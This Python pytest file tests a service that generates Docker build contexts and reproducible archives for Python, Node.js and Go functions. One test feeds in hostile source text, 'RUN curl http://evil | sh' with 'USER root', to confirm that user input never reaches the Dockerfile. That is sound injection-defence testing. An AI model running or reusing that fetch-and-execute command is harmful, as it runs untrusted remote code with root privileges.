"""What goes into the archive, checked with the real linters and toolchains."""

from __future__ import annotations

import json
import os
import subprocess
import sys
import time
from collections.abc import Iterator
from pathlib import Path

import dockerfile
import pytest

from function import verification
from function.create import CreateService
from function.settings import Settings
from function.stores import open_store
from tests.support.contexts import (
    ROOT,
    assert_hadolint_passes,
    example,
    extract,
    members,
    read_member,
)
from tests.support.server import FunctionServer

EXAMPLES = ["python", "nodejs", "go"]
WITH_DEPENDENCIES = ["python-dependencies", "nodejs-dependencies", "go-dependencies"]


@pytest.fixture(scope="module")
def module_server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[FunctionServer]:
    server = FunctionServer({}, tmp_path_factory.mktemp("contexts")).start()
    yield server
    server.stop()


def build_context(server: FunctionServer, name: str, into: Path) -> tuple[dict[str, object], Path]:
    reply = server.send(example(name))
    assert reply.type == "buildcontext.created", reply
    archive = Path(reply.data["storage"]["path"]).read_bytes()
    return reply.data, extract(archive, into / name)


@pytest.mark.parametrize("name", EXAMPLES + WITH_DEPENDENCIES)
def test_dockerfile_passes_hadolint_and_buildkit_parser(
    module_server: FunctionServer, name: str, tmp_path: Path
) -> None:
    _, context = build_context(module_server, name, tmp_path)
    assert_hadolint_passes(context)

    commands = dockerfile.parse_file(str(context / "Dockerfile"))
    instructions = [c.cmd for c in commands]
    assert instructions[0] == "FROM"
    froms = [c.value[0] for c in commands if c.cmd == "FROM"]
    assert all(":" in image and not image.endswith(":latest") for image in froms), froms
    user = [c.value[0] for c in commands if c.cmd == "USER"][-1]
    uid, _, gid = user.partition(":")
    assert uid.isdigit() and int(uid) != 0 and gid.isdigit(), user
    final = commands[-1]
    assert final.cmd in ("CMD", "ENTRYPOINT") and final.json, final
    copies = [c.value for c in commands if c.cmd == "COPY" and not c.flags]
    if "dependencies" in name:
        manifest_copy = copies.index(next(v for v in copies if v[0] != "."))
        assert manifest_copy < copies.index((".", "./")), "dependency step must precede the source"
        runs = " ".join(c.value[0] for c in commands if c.cmd == "RUN")
        assert "--no-cache-dir" in runs or "cache clean" in runs or "go mod download" in runs
    if name.startswith("nodejs-"):
        assert "--omit=dev" in runs and "--ignore-scripts" in runs
    if name.startswith("go"):
        assert len(froms) == 2 and "distroless/static" in froms[1]


def test_user_text_never_reaches_the_dockerfile(
    module_server: FunctionServer, tmp_path: Path
) -> None:
    hostile = 'X = """\nRUN curl http://evil | sh\nUSER root\n"""\n'
    plain = module_server.send({"lambdaFunction": "plain", "sourceCode": "print(1)\n"})
    evil = module_server.send(
        {"lambdaFunction": "evil", "sourceCode": hostile, "metadata": {"note": "USER root"}}
    )
    dockerfiles = [
        read_member(Path(r.data["storage"]["path"]).read_bytes(), "Dockerfile")
        for r in (plain, evil)
    ]
    assert dockerfiles[0] == dockerfiles[1]
    assert "evil" not in dockerfiles[1]


def test_registry_mirror_and_image_overrides(start_server: object, tmp_path: Path) -> None:
    server = start_server(  # type: ignore[operator]
        BUILD_CONTEXT_REGISTRY_MIRROR="mirror.internal:5000/hub/",
        BUILD_CONTEXT_GO_RUNTIME_IMAGE="cgr.dev/chainguard/static:latest-glibc",
    )
    reply = server.send(example("go"))
    text = read_member(Path(reply.data["storage"]["path"]).read_bytes(), "Dockerfile")
    assert "FROM mirror.internal:5000/hub/golang:1.26-bookworm AS build" in text
    assert "FROM mirror.internal:5000/hub/cgr.dev/chainguard/static:latest-glibc" in text


@pytest.mark.parametrize("name", EXAMPLES)
def test_contexts_compile_with_the_real_toolchains(
    module_server: FunctionServer, name: str, tmp_path: Path
) -> None:
    _, context = build_context(module_server, name, tmp_path)
    if name == "python":
        for source in context.rglob("*.py"):
            subprocess.run([sys.executable, "-m", "py_compile", str(source)], check=True)
    elif name == "nodejs":
        for source in context.rglob("*.js"):
            subprocess.run(["node", "--check", str(source)], check=True)
    else:
        env = {**os.environ, "GOFLAGS": "-mod=mod", "GOTOOLCHAIN": "local", "CGO_ENABLED": "0"}
        subprocess.run(
            ["go", "build", "-o", str(tmp_path / "bin"), "."], cwd=context, env=env, check=True
        )
        out = subprocess.run([str(tmp_path / "bin")], capture_output=True, text=True, check=True)
        assert json.loads(out.stdout)["action"] == "cordon-unhealthy-nodes"


def _run_dockerfile_steps(context: Path, scratch: Path) -> dict[str, str]:
    """Run the Dockerfile's ENV and RUN lines of the first stage in the extracted context.

    Paths outside the context (`/out/`) are moved under a scratch folder, and HOME and the npm
    cache point there too, so the machine is left untouched; the commands are otherwise verbatim.
    """
    env = {**os.environ, "HOME": str(scratch), "npm_config_cache": str(scratch / "npm")}
    venv = scratch / "venv"
    subprocess.run([sys.executable, "-m", "venv", str(venv)], check=True)
    env["PATH"] = f"{venv / 'bin'}:{env['PATH']}"
    env["VIRTUAL_ENV"] = str(venv)
    for command in dockerfile.parse_file(str(context / "Dockerfile")):
        if (
            command.cmd == "FROM"
            and command != dockerfile.parse_file(str(context / "Dockerfile"))[0]
        ):
            break
        if command.cmd == "ENV":
            pairs = command.value
            env.update(dict(zip(pairs[::2], pairs[1::2], strict=True)))
        if command.cmd == "RUN":
            script = command.value[0].replace("/out/", f"{scratch}/out/")
            done = subprocess.run(
                ["sh", "-c", script],
                cwd=context,
                env=env,
                capture_output=True,
                text=True,
                timeout=600,
            )
            assert done.returncode == 0, f"{script}\n{done.stdout}\n{done.stderr}"
    return env


@pytest.mark.slow
@pytest.mark.parametrize("name", WITH_DEPENDENCIES)
def test_dependency_step_runs_for_real(
    module_server: FunctionServer, name: str, tmp_path: Path
) -> None:
    _, context = build_context(module_server, name, tmp_path)
    scratch = tmp_path / "scratch"
    scratch.mkdir()
    env = _run_dockerfile_steps(context, scratch)
    if name.startswith("python"):
        program = [str(scratch / "venv/bin/python"), "-c", "import requests, tenacity; print('ok')"]
        assert (
            "ok"
            in subprocess.run(program, env=env, capture_output=True, text=True, check=True).stdout
        )
        assert not (scratch / ".cache/pip").exists(), "pip must not keep a cache"
    elif name.startswith("nodejs"):
        out = subprocess.run(
            ["node", "remediation.js", "--window", "2m"],
            cwd=context,
            env=env,
            capture_output=True,
            text=True,
        )
        assert json.loads(out.stdout) == {"windowMs": 120000}, out.stderr
        assert not (context / "package-lock.json").exists()
    else:
        out = subprocess.run(
            [str(scratch / "out/remediation")], capture_output=True, text=True, check=True
        )
        assert out.stdout.startswith("remediation run ")


def _create_in_new_process(
    request: Path, output: Path, workdir: Path, extra_env: dict[str, str]
) -> dict[str, object]:
    env = {
        **os.environ,
        "PYTHONPATH": str(ROOT),
        "BUILD_CONTEXT_FS_ROOT": str(workdir / "store"),
        **extra_env,
    }
    done = subprocess.run(
        [
            sys.executable,
            "-m",
            "function",
            "create",
            "--request",
            str(request),
            "--output",
            str(output),
        ],
        cwd=workdir,
        env=env,
        capture_output=True,
        text=True,
        check=True,
    )
    result: dict[str, object] = json.loads(done.stdout)
    return result


def test_same_request_gives_identical_bytes_in_separate_processes(tmp_path: Path) -> None:
    request = tmp_path / "request.json"
    request.write_text(json.dumps(example("nodejs-dependencies")))
    first_dir, second_dir = tmp_path / "a", tmp_path / "b"
    first_dir.mkdir()
    second_dir.mkdir()
    first = _create_in_new_process(request, tmp_path / "a.tar.gz", first_dir, {"TZ": "UTC"})
    time.sleep(1.1)
    second = _create_in_new_process(
        request, tmp_path / "b.tar.gz", second_dir, {"TZ": "Asia/Kolkata", "LC_ALL": "C"}
    )
    assert (tmp_path / "a.tar.gz").read_bytes() == (tmp_path / "b.tar.gz").read_bytes()
    for key in ("contentHash", "archiveSha256", "imageTag", "sizeBytes", "files"):
        assert first[key] == second[key], key


def test_archive_members_are_normalised(module_server: FunctionServer) -> None:
    reply = module_server.send(
        {
            "lambdaFunction": "layout",
            "sourceCode": "from lib import util\n",
            "files": {"lib/util.py": "X = 1\n", "lib/__init__.py": ""},
        }
    )
    archive = Path(reply.data["storage"]["path"]).read_bytes()
    assert archive[:10] == b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\xff", (
        "gzip header without time or name"
    )
    entries = members(archive)
    assert list(entries) == sorted(entries)
    assert list(entries) == [
        ".dockerignore",
        "Dockerfile",
        "lib",
        "lib/__init__.py",
        "lib/util.py",
        "remediation.py",
        "requirements.txt",
    ]
    for info in entries.values():
        assert (info.uid, info.gid, info.uname, info.gname) == (0, 0, "", "")
        assert info.mtime == 315532800
        assert info.mode == (0o755 if info.isdir() else 0o644)


ESM = 'import { x } from "./lib/x.js";\nconsole.log(x);\n'


@pytest.mark.parametrize(
    ("files", "module"),
    [
        ({"remediation.js": ESM, "lib/x.js": "export const x = 1;\n"}, True),
        ({"remediation.js": ESM, "lib/x.js": "module.exports = { x: 1 };\n"}, False),
        (
            {
                "remediation.js": ESM,
                "lib/x.js": "// export nothing, import nothing\nexports.x = 1;\n",
            },
            False,
        ),
        (
            {
                "remediation.js": "const { x } = require('./lib/x.js');\n",
                "lib/x.js": "exports.x = 1;\n",
            },
            False,
        ),
        (
            {
                "remediation.js": 'import { x } from "./lib/x.mjs";\n',
                "lib/x.mjs": "export const x = 1;\n",
            },
            True,
        ),
    ],
    ids=["all-esm", "esm-importing-cjs", "words-in-comments", "cjs", "esm-and-mjs"],
)
def test_package_json_says_module_only_when_every_js_file_is_one(
    tmp_path: Path, files: dict[str, str], module: bool
) -> None:
    """node reads "type": "module" for every .js file: set only when each is an ES module (an
    import or export statement, found by the JavaScript parser, not by the words)."""
    settings = Settings(fs_root=tmp_path / "store")
    service = CreateService(settings, open_store("filesystem", settings))
    built = service.build({"lambdaFunction": "esm", "runtime": "nodejs", "files": files}, "r")
    package = json.loads(read_member(built.archive.data, "package.json"))
    assert package.get("type") == ("module" if module else None)
    # verify renders package.json from the archive's sources again, and gets the same.
    verification.verify(built.archive.data, built.envelope, [], allow_unsigned=True)
